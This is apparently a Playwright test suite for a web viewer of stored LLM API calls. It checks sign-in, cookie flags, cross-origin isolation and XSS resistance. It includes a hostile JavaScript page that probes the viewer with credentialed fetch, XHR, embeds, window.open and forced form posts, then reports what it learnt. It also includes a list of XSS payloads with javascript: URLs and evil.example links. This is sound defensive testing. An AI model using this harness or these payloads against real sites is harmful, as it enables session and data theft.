"""The viewer in a real browser: people read bodies there, and a page of Butler's learns nothing (SECURITY F5)."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Page

from steward.adapters.oidc import OidcClient, OidcProvider
from steward.api.viewer import SESSION_COOKIE
from steward.forward import tls_context
from steward.ports import ViewAct
from steward.viewing import CALLBACK_PATH
from steward.words import Secret
from tests.browser.conftest import NewPage
from tests.contracts.records import ORG, OTHER_ORG
from tests.servers.openid import CLIENT_ID, CLIENT_SECRET, OpenId, open_id
from tests.servers.postgres import Database
from tests.servers.viewers import RunningViewer, a_document, running_viewer
from tests.servers.waiting import eventually

CANARY = "CANARY-7f3a-the-completion"

HOSTILE = """<!doctype html><meta charset=utf-8><title>Butler</title><button id=go>go</button><script>
const viewer = VIEWER, paths = PATHS, learnt = [];
const note = (how, what) => learnt.push([how, String(what)]);
const soon = promise => Promise.race([promise, new Promise(done => setTimeout(() => done('silence'), 1500))]);
const element = (tag, fields) => new Promise(done => {
  const made = Object.assign(document.createElement(tag), fields);
  made.onload = () => done('load'); made.onerror = () => done('error'); document.body.append(made);
});
async function attack(url) {
  for (const mode of ['cors', 'no-cors']) for (const credentials of ['include', 'omit'])
    for (const method of mode === 'cors' ? ['GET', 'POST', 'PUT'] : ['GET', 'POST'])
      await soon(fetch(url, {mode, credentials, method})
        .then(async got => note(mode, got.type + await got.text()), () => note(mode, 'refused')));
  await soon(new Promise(done => { const asked = new XMLHttpRequest(); asked.withCredentials = true;
    asked.onloadend = () => { note('xhr', asked.status + asked.responseText); done(); };
    asked.open('GET', url); asked.send(); }));
  for (const [tag, fields] of [['script', {src: url}], ['img', {src: url}], ['link', {rel: 'stylesheet', href: url}],
      ['link', {rel: 'prefetch', href: url}], ['link', {rel: 'preload', as: 'fetch', href: url}],
      ['object', {data: url}], ['embed', {src: url}], ['iframe', {src: url}], ['video', {src: url}]])
    note(tag, await soon(element(tag, fields)));
  for (const frame of document.querySelectorAll('iframe'))
    try { note('frame', frame.contentWindow.document.documentElement.outerHTML); } catch { note('frame', 'refused'); }
  note('beacon', navigator.sendBeacon(url, 'x'));
  await soon(new Promise(done => { const events = new EventSource(url, {withCredentials: true});
    events.onmessage = got => note('events', got.data); events.onerror = () => { events.close(); done(); }; }));
  const opened = window.open(url);
  window.onmessage = got => note('message', got.data);
  await soon(new Promise(() => {}));
  try { note('opened', opened.document.documentElement.outerHTML); } catch { note('opened', 'refused'); }
  try { opened.postMessage('tell me', '*'); note('length', opened.length); } catch { note('length', 'refused'); }
  note('closed', opened.closed);
}
function post(path, fields) {
  const form = Object.assign(document.createElement('form'), {method: 'post', action: viewer + path, target: '_blank'});
  for (const [name, value] of Object.entries(fields))
    form.append(Object.assign(document.createElement('input'), {name, value}));
  document.body.append(form); form.submit();
}
document.getElementById('go').onclick = async () => {
  for (const path of paths) await attack(viewer + path);
  post('/sign-in', {token: 'mdm_vt_' + 'a'.repeat(43)}); post('/sign-out', {});
  for (const path of paths) post(path, {});
  await soon(new Promise(() => {}));
  await fetch('/learnt', {method: 'POST', body: JSON.stringify(learnt)});
  location = viewer + paths[0];
};
</script>"""


@dataclass
class Hostile:
    """A Butler in hostile hands: what it serves, and what its page brought home."""

    port: int
    page: str = ""
    learnt: list[list[str]] = field(default_factory=list)
    came: list[str] = field(default_factory=list)
    """Cookies that browsers sent along."""


@contextmanager
def hostile_butler() -> Iterator[Hostile]:
    """Serves until the block ends."""

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *words: object) -> None:
            """Nothing."""

        def do_GET(self) -> None:
            self._say(butler.page.encode())

        def do_POST(self) -> None:
            butler.learnt += json.loads(self.rfile.read(int(self.headers["content-length"])))
            self._say(b"")

        def _say(self, body: bytes) -> None:
            butler.came.append(self.headers.get("cookie", ""))
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    butler = Hostile(server.server_address[1])
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield butler
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@pytest.fixture
def viewer(postgres: Database) -> Iterator[RunningViewer]:
    with running_viewer(postgres) as running:
        yield running


def signed_in(viewer: RunningViewer, page: Page) -> Page:
    """By the form, as a person does it."""
    page.goto(viewer.url)
    page.fill("#token", viewer.token())
    page.click("main button")
    page.wait_for_selector("h1:has-text('Calls')")
    return page


def test_a_person_signs_in_reads_saves_and_leaves(viewer: RunningViewer, new_page: NewPage, tmp_path: Path) -> None:
    row = viewer.keep(a_document(CANARY))
    page = signed_in(viewer, new_page())
    assert page.locator("tbody tr").count() == 1
    page.click("tbody a")
    assert page.inner_text(".turn.answered pre") == CANARY
    with page.expect_download() as saving:
        page.click("text=Download")
    saved = tmp_path / "saved"
    saving.value.save_as(saved)
    assert saving.value.suggested_filename == f"{row.id}.json"
    assert json.loads(saved.read_bytes())["response"]["body"]["choices"][0]["message"]["content"] == CANARY
    assert [each.act for each in viewer.openings()] == [ViewAct.OPENED, ViewAct.DOWNLOADED]
    page.click("text=Sign out")
    page.goto(f"{viewer.url}/requests/{row.id}")
    assert CANARY not in page.content()
    assert page.locator("#token").count() == 1


def test_the_cookie_is_of_this_host_alone_and_no_script_s(viewer: RunningViewer, new_page: NewPage) -> None:
    page = signed_in(viewer, new_page())
    (cookie,) = page.context.cookies()
    assert cookie["name"] == SESSION_COOKIE == "__Host-mdm_view"
    assert (cookie["httpOnly"], cookie["secure"], cookie["sameSite"]) == (True, True, "Lax")
    assert (cookie["domain"], cookie["path"]) == ("localhost", "/")
    assert page.evaluate("document.cookie") == ""


def test_the_cookie_is_kept_on_the_other_name_of_loopback_too(postgres: Database, new_page: NewPage) -> None:
    with running_viewer(postgres, name="127.0.0.1") as viewer:
        page = signed_in(viewer, new_page())
        assert [cookie["name"] for cookie in page.context.cookies()] == [SESSION_COOKIE]


def test_a_request_id_in_the_box_leads_to_the_call(viewer: RunningViewer, new_page: NewPage) -> None:
    row = viewer.keep(a_document(CANARY))
    page = signed_in(viewer, new_page())
    page.fill("#id", f" {row.id} ")
    page.click("text=Open")
    assert CANARY in page.inner_text("main")
    page.goto(viewer.url)
    page.fill("#id", "<script>")
    page.click("text=Open")
    assert "Not a request id" in page.inner_text("main")


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"], ids=["another site", "the same site, another port"])
def test_a_page_of_butler_s_learns_nothing(viewer: RunningViewer, new_page: NewPage, host: str) -> None:
    row = viewer.keep(a_document(CANARY))
    person = signed_in(viewer, new_page())
    with hostile_butler() as butler:
        paths = [f"/requests/{row.id}", f"/requests/{row.id}/download", f"/find?id={row.id}"]
        butler.page = HOSTILE.replace("VIEWER", json.dumps(viewer.url)).replace("PATHS", json.dumps(paths))
        page = person.context.new_page()
        page.goto(f"http://{host}:{butler.port}/")
        windows: list[Page] = []
        person.context.on("page", lambda opened: windows.append(opened))
        page.click("#go")
        eventually(lambda: butler.learnt or page.wait_for_timeout(100), 90)
        page.wait_for_url(f"{viewer.url}/**")
        assert "Open this call?" in page.inner_text("main")
        assert CANARY not in page.content()
        read = [each for each in windows if not each.is_closed() and each.url.startswith(viewer.url)]
        assert len(read) >= len(paths)
        assert [each.evaluate("window.opener") for each in read] == [None] * len(read)
        assert CANARY not in "".join(each.content() for each in read)
    ways = {how for how, _ in butler.learnt}
    assert {"cors", "no-cors", "xhr", "script", "img", "iframe", "frame", "opened", "closed"} <= ways
    assert CANARY not in json.dumps(butler.learnt)
    assert {what for how, what in butler.learnt if how in ("cors", "no-cors")} == {"refused"}
    assert {what for how, what in butler.learnt if how in ("frame", "opened")} <= {"refused"}
    assert {what for how, what in butler.learnt if how in ("message", "events")} == set()
    assert {what for how, what in butler.learnt if how == "closed"} == {"true"}
    assert {what for how, what in butler.learnt if how in ("script", "img", "video")} <= {"error", "silence"}
    assert viewer.openings() == []
    assert [each.act for each in viewer.account()] == [ViewAct.SIGNED_IN]
    person.reload()
    assert "Calls" in person.inner_text("h1"), "the session was ended by another's form"


def test_a_link_of_butler_s_opens_only_when_a_person_says_so(viewer: RunningViewer, new_page: NewPage) -> None:
    row = viewer.keep(a_document(CANARY))
    person = signed_in(viewer, new_page())
    with hostile_butler() as butler:
        butler.page = f"<a href='{viewer.url}/requests/{row.id}'>open body</a>"
        person.goto(f"http://127.0.0.1:{butler.port}/")
        person.click("a")
        assert "Open this call?" in person.inner_text("main")
        assert viewer.openings() == []
        person.click("text=Open it")
        assert CANARY in person.inner_text("main")
        assert [each.request_id for each in viewer.openings()] == [row.id]


NASTY = [
    "<script>window.ran=1</script>",
    "</pre></article><script>window.ran=1</script>",
    "</textarea></title></style><svg onload=window.ran=1>",
    "<img src=x onerror=window.ran=1><iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "[click](javascript:window.ran=1) ![x](https://evil.example/?q=1) https://evil.example/",
    "line\u2028separated\u2029text <a href='javascript:window.ran=1'>x</a>",
    "\u202egnp.exe\u202c \u2066a\u2069 \u200b\U000e0041",
    "'\" onmouseover=window.ran=1 x='",
    "{title} {content} %s \0 \x1b[31m &lt;b&gt; &#x3c;script>",
    "\ud800 lone",
]


@pytest.mark.parametrize("text", NASTY)
def test_no_completion_runs_or_loads_anything(viewer: RunningViewer, new_page: NewPage, text: str) -> None:
    plain = text.encode("utf-8", "replace").decode()
    document = a_document(plain, [{"type": "text", "text": plain}], headers={"x-made-up": plain})
    document["request"]["path"] = plain
    row = viewer.keep(document, tags={"T": plain.replace("\0", "")[:200]}, model=plain.replace("\0", "")[:100])
    page = new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append("dialog"))
    signed_in(viewer, page)
    for path in ("", f"/requests/{row.id}", f"/requests/{row.id}/response", f"/requests/{row.id}/request"):
        page.goto(viewer.url + path)
        page.evaluate("document.querySelectorAll('details').forEach(each => { each.open = true; })")
        assert page.evaluate("window.ran") is None
        assert (
            page.evaluate("document.querySelectorAll('script, img, iframe, svg, object, base, textarea').length") == 0
        )
        links = page.evaluate("[...document.querySelectorAll('[href]')].map(each => each.href)")
        assert all(each.startswith(f"{viewer.url}/") for each in links)
        handlers = (
            "[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on')))"
        )
        assert page.evaluate(f"{handlers}.length") == 0
    assert all(each.startswith(f"{viewer.url}/") for each in asked)


def test_what_turns_text_around_or_is_not_seen_is_named(viewer: RunningViewer, new_page: NewPage) -> None:
    row = viewer.keep(a_document("a\u202eb\u2028c\u200bd\U000e0041 \u05e9\u05dc\u05d5\u05dd"))
    page = signed_in(viewer, new_page())
    page.goto(f"{viewer.url}/requests/{row.id}")
    assert page.inner_text(".turn.answered pre") == "aU+202EbU+2028cU+200BdU+E0041 \u05e9\u05dc\u05d5\u05dd"


@pytest.fixture
def provider() -> Iterator[OpenId]:
    with open_id() as running:
        yield running


def test_a_person_signs_in_at_the_customer_s_own_provider(
    postgres: Database, provider: OpenId, new_page: NewPage
) -> None:
    def made(url: str) -> OidcProvider:
        client = OidcClient(provider.issuer, CLIENT_ID, Secret(CLIENT_SECRET), url + CALLBACK_PATH)
        return OidcProvider(client, tls_context(None))

    with running_viewer(postgres, {"readers": frozenset({ORG}), "others": frozenset({OTHER_ORG})}, made) as viewer:
        mine, theirs = viewer.keep(a_document(CANARY)), viewer.keep(a_document("THEIRS"), org_id=OTHER_ORG)
        page = new_page()
        page.goto(f"{viewer.url}/requests/{mine.id}")
        page.click("text=Sign in with your organisation")
        assert "Open this call?" in page.inner_text("main")
        page.click("text=Open it")
        assert CANARY in page.inner_text("main")
        assert page.inner_text(".name") == "ada [ada-1]"
        page.goto(f"{viewer.url}/requests/{theirs.id}")
        assert "THEIRS" not in page.content()
        assert [each.who for each in viewer.openings()] == ["ada [ada-1]"]
        assert [cookie["name"] for cookie in page.context.cookies(viewer.url)] == [SESSION_COOKIE]


TOOLS: dict[str, Any] = {
    "model": "gpt-4o-mini",
    "messages": [
        {"role": "system", "content": "You run deployments. Ask before you touch production."},
        {"role": "user", "content": "Ship the checkout service, please, and tell me when it is live."},
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [
                {
                    "id": "call_1",
                    "type": "function",
                    "function": {"name": "deploy", "arguments": '{"service": "checkout", "environment": "staging"}'},
                }
            ],
        },
        {"role": "tool", "tool_call_id": "call_1", "content": "deployed checkout@4f2c9e1 to staging in 41 s"},
    ],
}


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("width", [1280, 360])
def test_it_fits_the_screen(
    viewer: RunningViewer, new_page: NewPage, screenshot: Callable[[Page, str], Path], width: int, dark: bool
) -> None:
    document = a_document("It is live on staging.\n\nShall I go on to production?")
    document["request"]["body"] = TOOLS
    calm = {"outcome": "complete", "status_code": 200, "response_time_ms": 1840, "ttft_ms": 412, "error_message": None}
    for number in range(8):
        viewer.keep(document, **calm, input_tokens=1234 + number, total_cost="0.00123" if number else None)
    page = new_page(width=width, dark=dark)
    look = f"{width}-{'dark' if dark else 'light'}"
    page.goto(viewer.url)
    screenshot(page, f"viewer-sign-in-{look}")
    signed_in(viewer, page)
    screenshot(page, f"viewer-calls-{look}")
    page.click("tbody a >> nth=0")
    page.wait_for_selector(".turn")
    page.click("text=All facts")
    kept = screenshot(page, f"viewer-call-{look}")
    assert kept.stat().st_size > 10_000
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    assert page.locator("html").get_attribute("lang") == "en"
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.tagName") in ("A", "BUTTON", "SUMMARY", "PRE")
